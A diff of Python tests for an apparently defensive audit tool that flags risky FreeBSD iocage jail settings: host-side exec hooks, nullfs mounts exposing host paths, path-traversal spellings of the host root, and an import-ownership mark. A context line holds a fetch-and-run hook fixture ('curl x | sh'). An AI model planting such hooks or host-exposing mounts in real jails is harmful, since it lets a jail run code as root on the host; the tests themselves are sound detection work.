@@ -54,3 +54,41 @@ def test_host_commands_are_the_host_side_hooks_that_differ_from_this_hosts_defau
     assert I.host_commands(stored, {"exec_created": "/usr/local/bin/mine"}) == (
         ("exec_prestart", "/bin/sh -c 'curl x | sh'"),)
     assert I.host_commands({"exec_start": "/bin/sh /etc/rc.other"}, {}) == ()
+
+
+FSTAB = ("/iocage/jails/web/root/srv /iocage/jails/web/root/mnt nullfs rw 0 0\n"
+         "/iocage/releases/13.2-RELEASE/root/bin /iocage/jails/web/root/bin nullfs ro 0 0\n"
+         "tmpfs /iocage/jails/web/root/tmp tmpfs rw 0 0\n"
+         "/srv/data /iocage/jails/web/root/data nullfs rw 0 0\n"
+         "/etc /iocage/jails/web/root/hostetc nullfs ro 0 0\n"
+         "/iocage/jails/web /iocage/jails/web/root/self nullfs rw 0 0\n"
+         "/iocage/releases/13.2-RELEASE/root/usr /iocage/jails/web/root/usr nullfs rw 0 0\n"
+         "/iocage/jails/web/root/../../db/root /iocage/jails/web/root/db nullfs ro 0 0\n"
+         "relative /iocage/jails/web/root/rel nullfs rw 0 0\n"
+         "not an entry\n")
+
+
+def test_host_sources_are_every_path_of_the_host_outside_the_jails_root():
+    assert I.host_sources(FSTAB, "/iocage/jails/web/root", "/iocage/releases") == (
+        ("/srv/data", "rw"), ("/etc", "ro"),
+        ("/iocage/jails/web", "rw"),  # its own config.json and fstab: hooks run from there as root
+        ("/iocage/releases/13.2-RELEASE/root/usr", "rw"),  # a release, writable
+        ("/iocage/jails/web/root/../../db/root", "ro"),  # another jail, however spelled
+        ("relative", "rw"))
+    assert I.host_sources("", "/iocage/jails/web/root", "/iocage/releases") == ()
+
+
+def test_an_fstab_mounting_the_hosts_root_is_found_however_spelled():
+    for source in ("/", "//", "/./", "/usr/..", "/\\057"):
+        assert I.host_root_source(f"{source} /iocage/jails/web/root/mnt nullfs rw 0 0\n") is not None, source
+    assert I.host_root_source(FSTAB) is None
+
+
+def test_the_import_mark_names_its_owner_and_reads_back():
+    mark = I.ImportMark("host1", 4242, "123456", "2024-05-01T10:00:00Z")
+    assert I.parse_import_mark(mark.text()) == mark
+    assert I.parse_import_mark("garbage") is None and I.parse_import_mark(None) is None
+    assert not I.owner_gone(mark, "host1", owner_alive=True)
+    assert I.owner_gone(mark, "host1", owner_alive=False)
+    assert I.owner_gone(mark, "host2", owner_alive=True)  # the pool moved: nothing imports on it there
+    assert I.owner_gone(None, "host1", owner_alive=True)
